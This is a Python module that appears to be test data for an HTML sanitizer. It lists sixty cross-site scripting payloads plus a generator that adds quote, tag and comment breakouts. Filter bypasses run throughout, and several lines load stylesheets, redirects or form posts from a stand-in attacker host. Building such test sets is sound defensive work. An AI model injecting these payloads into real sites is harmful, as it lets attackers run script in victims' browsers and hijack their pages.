"""Texts that have run as a script in somebody's page, or changed its markup (XS-1, XS-2).

Sixty written by hand, each for another place or another way past a filter, and more from these by
breaking out of quotes, elements and comments first. Every one that runs sets ``window.ran``.
"""

from itertools import product

BY_HAND = (
    "<script>window.ran=1</script>",
    "<ScRiPt>window.ran=1</sCrIpT>",
    "<script src=data:text/javascript,window.ran=1></script>",
    "<script/x>window.ran=1</script >",
    "<<script>window.ran=1//<</script>",
    "<script>window.ran=1<!--",
    "<img src=x onerror=window.ran=1>",
    "<img src=x:x onerror=window.ran=1//>",
    "<img/src=x/onerror=window.ran=1>",
    "<IMG SRC=x ONERROR=window.ran=1>",
    "<img src='x' onerror='window.ran=1'>",
    "<image src=x onerror=window.ran=1>",
    "<svg onload=window.ran=1>",
    "<svg/onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>",
    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:window.ran=1><text y=9>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>",
    "<math><a xlink:href=javascript:window.ran=1>x</a></math>",
    "<body onload=window.ran=1>",
    "<input autofocus onfocus=window.ran=1>",
    "<select autofocus onfocus=window.ran=1>",
    "<textarea autofocus onfocus=window.ran=1>",
    "<details open ontoggle=window.ran=1>",
    "<marquee onstart=window.ran=1>x</marquee>",
    "<video src=x onerror=window.ran=1>",
    "<audio src=x onerror=window.ran=1>",
    "<video><source onerror=window.ran=1></video>",
    "<iframe srcdoc='<script>parent.ran=1</script>'>",
    "<iframe src=javascript:parent.ran=1>",
    "<object data=javascript:window.ran=1>",
    "<embed src=javascript:window.ran=1>",
    "<a href=javascript:window.ran=1>x</a>",
    "<a href='java\tscript:window.ran=1'>x</a>",
    "<a href=&#106;avascript:window.ran=1>x</a>",
    "<a href=' &#14; javascript:window.ran=1'>x</a>",
    "<div style=animation-name:x onanimationstart=window.ran=1>",
    "<div onpointerover=window.ran=1 style=position:fixed;inset:0>x</div>",
    "<p hidden=until-found onbeforematch=window.ran=1>x</p>",
    "<link rel=stylesheet href=//evil.example.net/x.css>",
    "<style>body{display:none}</style>",
    "<style>@import '//evil.example.net/x.css';</style>",
    "<base href=//evil.example.net>",
    "<meta http-equiv=refresh content='0;url=//evil.example.net'>",
    "<form action=//evil.example.net><button>go</button>",
    "<button form=x formaction=javascript:window.ran=1>x</button>",
    "<template><script>window.ran=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
    r"\u003cscript\u003ewindow.ran=1\u003c/script\u003e",
    "\uff1cscript\uff1ewindow.ran=1\uff1c/script\uff1e",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "%3Cscript%3Ewindow.ran=1%3C/script%3E",
    "{{ 7*7 }}<b>bold</b>",
    "{% raw %}{{ config }}{% endraw %}",
    "${window.ran=1}`'-window.ran=1-'",
    "[x](javascript:window.ran=1)",
    "![x](//evil.example.net/x.png)",
    "[x](data:text/html,<script>parent.ran=1</script>)",
    "<javascript:window.ran=1>",
    "\u202e<script>window.ran=1</script>\u2066",
)
WAYS_OUT = ('">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</option></select>")
QUOTES = ('" onfocus=window.ran=1 autofocus x="', "' onfocus=window.ran=1 autofocus x='")
# In the first lot each kind is met: a way out of everything, and out of quotes.
MIXED = (*QUOTES, *(way + BY_HAND[n] for n, way in enumerate(WAYS_OUT)))


STEP = 6


def script_texts(most: int) -> list[str]:
    """Return so many different texts; the first twenty are of every kind, then all by hand."""
    by_hand = [text for start in range(STEP) for text in BY_HAND[start::STEP]]
    first = [text for pair in zip(by_hand, MIXED, strict=False) for text in pair]
    others = (way + text for text, way in product(BY_HAND, WAYS_OUT))
    return list(dict.fromkeys([*first, *by_hand, *others]))[:most]
